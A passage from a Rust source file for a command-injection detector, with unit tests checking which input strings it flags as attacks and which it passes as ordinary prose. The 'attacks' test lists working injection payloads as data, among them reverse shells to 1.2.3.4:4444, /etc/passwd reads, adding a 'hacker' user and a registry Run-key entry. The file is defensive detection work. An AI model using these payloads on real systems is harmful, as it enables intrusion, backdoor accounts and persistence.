                let c = &cmd;
                if judge(c) >= Verdict::Plausible || common_command(c.name.command_name()) {
                    return Some("cmdi-code-exec");
                }
            }
            Some(b'$') => return Some("cmdi-code-exec"),
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> Option<Rule> {
        super::super::normalize::on_lowercase(s, detect)
    }

    #[test]
    fn command_table_is_sorted() {
        assert!(KNOWN_COMMANDS.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn attacks() {
        for s in [
            "; id",
            "127.0.0.1; cat /etc/passwd",
            "| whoami",
            "x && uname -a",
            "`id`",
            "$(whoami)",
            "a$(cat /etc/passwd)",
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "nc -e /bin/sh 1.2.3.4 4444",
            "; nc -e /bin/sh 1.2.3.4 4444",
            "; w'h'oami",
            "; wh\\oami",
            ";cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "'; sleep 5",
            "| ping -c 10 127.0.0.1",
            "() { :;}; /bin/bash -c id",
            "<!--#exec cmd=\"id\"-->",
            "system('cat /etc/passwd');",
            "& net user hacker p /add",
            "\n/usr/bin/id\n",
            "cat /etc/passwd",
            "system(\"id\")",
            "{{7*7}}",
            "& reg add HKLM\\Software\\X /v Run /d x.exe",
            "{${phpinfo()}}",
            "<!--#exec cmd=\"ls\"-->",
        ] {
            assert!(hit(s).is_some(), "missed {s:?}");
        }
    }

    #[test]
    fn prose() {
        for s in [
            "Hi; how are you?",
            "a | b",
            "I'll be there; don't wait",
            "cats & dogs",
            "see you --",
            "I need sleep (8h)",
            "check reviews.php?op=print&id=21 for tips",
            "try the 2>&1 | nc example.net 1234 trick",
            "use $(date) if you like",
            "coffee; cat videos are great",
            "if [ \"`id -u`\" -eq 0 ] ; then echo root; fi",
            "sudo apt-get update && sudo apt-get upgrade",
            "",
            "$(",
            "`",
            "{",
        ] {
            assert_eq!(hit(s), None, "flagged {s:?}");
        }
    }
}
